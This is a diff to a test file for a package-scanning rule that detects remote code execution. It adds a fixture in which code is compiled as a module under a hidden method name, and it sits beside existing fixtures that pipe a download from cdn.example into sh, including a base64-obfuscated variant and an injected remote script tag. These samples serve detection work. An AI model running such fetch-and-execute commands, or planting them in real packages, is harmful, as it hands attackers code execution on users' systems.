@@ -37,6 +37,7 @@ const installing = { scripts: { postinstall: 'node install.js' }, homepage: 'htt
 const piped = "require('child_process').exec('curl -fsSL https://cdn.example/x.sh | sh')"
 const unpacked = `require('child_process').exec("echo ${Buffer.from('curl https://cdn.example/x.sh | sh').toString('base64')} | base64 -d | sh")`
 const unpackedCommand = unpacked.slice(unpacked.indexOf('"') + 1, -2)
+const compiles = "const m = new module.constructor(); m[require('./words')[7]](require('./words')[0], '')"
 const scriptOf = (host: string) => `const script = document.createElement('script')
 script.src = 'https://${host}/x.js'
 document.head.append(script)`
@@ -205,6 +206,20 @@ testRule(remoteCodeRun, {
           'index.js',
           2,
           1,
+        ]),
+      ],
+    },
+    {
+      name: 'a text that a module of its own compiles under a hidden name',
+      subject: addition,
+      facts: await added({ 'index.js': compiles }),
+      observations: [
+        observation(decoded, 'critical', 'high', [
+          'compiled as a module under a hidden name',
+          compiles,
+          'index.js',
+          1,
+          37,
         ]),
       ],
     },
